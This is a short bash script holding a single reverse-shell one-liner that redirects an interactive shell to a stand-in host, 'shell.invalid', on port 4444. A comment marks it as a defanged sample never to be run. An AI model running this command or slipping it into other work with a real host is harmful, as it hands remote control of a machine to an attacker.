#!/bin/bash
# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
bash -i >& /dev/tcp/shell.invalid/4444 0>&1
